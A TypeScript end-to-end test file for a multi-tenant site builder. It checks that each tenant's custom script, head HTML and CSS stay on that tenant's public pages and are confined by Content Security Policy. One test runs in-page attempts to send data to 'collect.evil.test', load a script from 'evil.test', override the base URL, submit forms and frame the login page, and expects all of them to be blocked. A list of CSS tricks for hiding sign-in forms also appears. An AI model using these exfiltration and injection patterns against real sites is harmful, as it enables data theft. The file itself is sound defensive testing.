import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { acceptedCss } from '@/lib/branding/custom-code/payloads/accepted-css';
import { compileCustomCss } from '@/lib/branding/custom-css';
import { ask } from '../support/http';
import { desktop, newPage, openBrowser, phone } from './support/browser';

const { port } = inject('konak');
const slug = 'lindner';
const host = `${slug}.localhost:${port}`;
const marker = 'foreign-marker-7f3a';

const code = {
  customCSS: '.entry-card { border-radius: 30px }',
  customJS: `document.documentElement.dataset.foreign = '${marker}';`,
  customHTMLHead: `<meta name="site-verification" content="${marker}">`,
  googleAnalyticsId: null,
  facebookPixelId: null,
  hotjarId: '1234567',
};

type Json = Record<string, unknown>;

async function call(method: string, path: string, body?: unknown, token = '') {
  const headers = { 'content-type': 'application/json', ...(token && { authorization: `Bearer ${token}` }) };
  const answer = await ask({
    port,
    host,
    path,
    method,
    headers,
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  if (answer?.status !== 200) throw new Error(`${method} ${path}: ${answer?.status} ${answer?.body}`);
  return JSON.parse(answer.body) as Json;
}

let browser: Browser;
let before: Json;
let save: (change: object) => Promise<unknown>;

beforeAll(async () => {
  browser = await openBrowser();
  const signedIn = await call('POST', '/api/auth/login', { email: `admin@${slug}.test`, password: 'konak-demo-1' });
  const token = String(signedIn.token);
  const { aud } = JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString());
  const place = `/api/core/tenants/${aud}/branding`;
  before = (await call('GET', place, undefined, token)).advanced as Json;
  save = (change) => call('PUT', `${place}/advanced`, { ...before, ...change }, token);
  await save(code);
});

afterAll(async () => {
  await save?.({});
  await browser?.close();
});

const open = (path: string, wish: { host?: string; viewport?: { width: number; height: number } } = {}) =>
  newPage(browser, { host: slug, locale: 'de', ...wish }).then(async (opened) => {
    await opened.page.goto(opened.at(path));
    return opened;
  });

const ran = (page: Page) => page.evaluate(() => document.documentElement.dataset.foreign);

describe('a tenant’s own script', () => {
  it.each(['/', '/plans'])('runs on %s', async (path) => {
    const { page, context } = await open(path);
    expect(await ran(page)).toBe(marker);
    expect(await page.locator(`meta[content="${marker}"]`).count()).toBe(1);
    expect(await page.evaluate(() => typeof (window as unknown as { hj: unknown }).hj)).toBe('function');
    await context.close();
  });

  it.each(['/login', '/register', '/dashboard', '/manage', '/domains', '/no-such-page'])(
    'is not on %s, and neither are its hosts in the policy',
    async (path) => {
      const answer = await ask({ port, host, path });
      expect(answer?.body).not.toContain(marker);
      expect(answer?.body).not.toContain('static.hotjar.com');
      expect(String(answer?.headers['content-security-policy'])).not.toContain('hotjar');
      const { page, context } = await open(path);
      expect(await ran(page)).toBeUndefined();
      await context.close();
    },
  );

  it('is on none of the platform’s pages, and on no other tenant’s', async () => {
    for (const other of [`localhost:${port}`, `acme.localhost:${port}`]) {
      const answer = await ask({ port, host: other, path: '/' });
      expect(answer?.status).toBe(200);
      expect(answer?.body).not.toContain(marker);
      expect(answer?.body).not.toContain('static.hotjar.com');
    }
  });

  it('is not on the landing page of whoever is signed in', async () => {
    const { page, context, at } = await open('/login');
    await page.locator('input[name=email]').fill(`customer@${slug}.test`);
    await page.locator('input[name=password]').fill('konak-demo-1');
    await page.locator('form[data-guarded] [type=submit]').click();
    await page.waitForURL('**/dashboard');
    const answer = await page.goto(at('/'));
    expect(await ran(page)).toBeUndefined();
    expect(await page.content()).not.toContain(marker);
    expect(answer?.headers()['cross-origin-opener-policy']).toBe('same-origin');
    expect(answer?.headers()['content-security-policy']).not.toContain('hotjar');
    await context.close();
  });

  it('can neither call the host, nor send forms, nor frame a page, nor leave a worker behind', async () => {
    const { page, context } = await open('/');
    const stopped = await page.evaluate(async () => {
      const directives = new Set<string>();
      addEventListener('securitypolicyviolation', (event) => directives.add(event.effectiveDirective));
      const outcome = (attempt: Promise<unknown>) =>
        attempt.then(
          () => 'done',
          () => 'stopped',
        );
      const outcomes = [
        await outcome(fetch('/api/auth/me')),
        await outcome(fetch('https://collect.evil.test/?x=1', { mode: 'no-cors' })),
        await outcome(navigator.serviceWorker.register('/theme.js')),
      ];
      const form = document.createElement('form');
      form.method = 'post';
      form.action = '/api/auth/logout';
      document.body.append(form);
      form.submit();
      const frame = document.createElement('iframe');
      frame.src = '/login';
      document.body.append(frame);
      const script = document.createElement('script');
      script.src = 'https://evil.test/x.js';
      document.body.append(script);
      const inline = document.createElement('script');
      inline.textContent = 'document.documentElement.dataset.second = "ran"';
      document.body.append(inline);
      const base = document.createElement('base');
      base.href = 'https://evil.test/';
      document.head.append(base);
      await new Promise<void>((resolve) => {
        const look = () =>
          directives.has('frame-src') && directives.has('form-action') ? resolve() : requestAnimationFrame(look);
        look();
      });
      return {
        outcomes,
        directives: [...directives].sort(),
        second: document.documentElement.dataset.second,
        at: location.pathname,
      };
    });
    expect(stopped.outcomes).toEqual(['stopped', 'stopped', 'stopped']);
    expect(stopped.directives).toEqual(
      expect.arrayContaining(['base-uri', 'connect-src', 'form-action', 'frame-src', 'script-src-elem', 'worker-src']),
    );
    expect([stopped.second, stopped.at]).toEqual([undefined, '/']);
    await context.close();
  });

  it('can reach into a window only where other pages like its own are', async () => {
    const { page, context, at } = await open('/');
    const chunk = await page.evaluate(
      () => document.querySelector<HTMLScriptElement>('script[src*="/_next/static/"]')?.src,
    );
    const reached = async (path: string) => {
      const opening = context.waitForEvent('page');
      await page.evaluate(
        (address) => {
          Object.assign(window, { opened: window.open(address) });
        },
        new URL(path, at('/')).href,
      );
      const popup = await opening;
      await popup.waitForLoadState();
      const answer = await page.evaluate(() => {
        const { opened } = window as unknown as { opened: Window | null };
        try {
          return opened !== null && !opened.closed && opened.document.documentElement !== null;
        } catch {
          return false;
        }
      });
      await popup.close();
      return answer;
    };
    expect(await reached('/plans')).toBe(true);
    const closed = [
      '/login',
      '/register',
      '/dashboard',
      '/no-such-page',
      '/theme.js',
      '/icon.svg',
      '/robots.txt',
      '/health',
    ];
    for (const path of [
      ...closed,
      '/manifest.webmanifest',
      '/api/auth/me',
      '/%zz',
      '/_next/static/nothing.js',
      chunk ?? '',
    ])
      expect([path, await reached(path)]).toEqual([path, false]);
    await context.close();
  });
});

/** What of the guarded parts cannot be seen, pressed or read; empty when all is well. */
const unusable = (page: Page) =>
  page.evaluate(() => {
    const wrong: string[] = [];
    const parts = '[data-guarded=form] input, [data-guarded=form] [type=submit], [data-guarded=notice]';
    const found = [...document.querySelectorAll<HTMLElement>(parts)];
    if (found.length === 0) wrong.push('nothing is guarded');
    for (const part of found) {
      part.scrollIntoView({ block: 'center', behavior: 'instant' });
      const name = part.getAttribute('name') ?? part.textContent ?? '';
      const { left, right, top, bottom, width, height } = part.getBoundingClientRect();
      if (width < 60 || height < 10) wrong.push(`${name}: only ${width} x ${height}`);
      if (left < -1 || right > innerWidth + 1 || top < -1 || bottom > innerHeight + 1)
        wrong.push(`${name}: out of view`);
      const hit = document.elementFromPoint((left + right) / 2, (top + bottom) / 2);
      if (!hit || !part.contains(hit)) wrong.push(`${name}: under ${hit?.outerHTML.slice(0, 80)}`);
      const { visibility, opacity, color, backgroundColor, fontSize } = getComputedStyle(part);
      if (visibility !== 'visible' || Number(opacity) < 1) wrong.push(`${name}: ${visibility}, ${opacity}`);
      if (color === backgroundColor || Number.parseFloat(fontSize) < 10) wrong.push(`${name}: ${color}, ${fontSize}`);
    }
    return wrong;
  });

const places = [
  [slug, '/login', desktop],
  [slug, '/login', phone],
  [slug, '/register', phone],
  ['deniz', '/', desktop],
] as const;

describe('a tenant’s own style sheet', () => {
  it('is in force on the sign-in page', async () => {
    const { page, close } = await open('/login');
    expect(await page.locator('.entry-card').evaluate((card) => getComputedStyle(card).borderTopLeftRadius)).toBe(
      '30px',
    );
    await close();
  });

  it.each(places)(
    'leaves every guarded part of %s%s as usable as before, whatever was taken',
    async (tenant, path, viewport) => {
      const { page, close } = await open(path, { host: tenant, viewport });
      expect(await unusable(page)).toEqual([]);
      for (const source of acceptedCss) {
        const compiled = compileCustomCss(source);
        const content = 'css' in compiled ? compiled.css : '';
        expect(content, source).not.toBe('');
        const style = await page.addStyleTag({ content });
        expect(await unusable(page), source).toEqual([]);
        await style.evaluate((element) => (element as Element).remove());
      }
      await close();
    },
  );

  it.each([
    'display: none',
    'visibility: hidden',
    'opacity: 0',
    'transform: translateX(-9999px)',
    'translate: -9999px',
    'scale: 0',
    'clip-path: inset(100%)',
    'filter: opacity(0)',
    'position: absolute; left: -9999px',
    'position: relative; top: -9999px',
    'margin: -9999px',
    'pointer-events: none',
    'width: 0; height: 0; overflow: hidden; padding: 0',
    'color: transparent; background: transparent',
    'color: #fff; background: #fff',
  ])('does not get past the second lock with %s either', async (declarations) => {
    const { page, close } = await open('/login');
    await page.addStyleTag({
      content: `@layer tenant { [data-guarded], [data-guarded] input, [data-guarded] [type=submit] { ${declarations} } }`,
    });
    expect(await unusable(page)).toEqual([]);
    await close();
  });
});
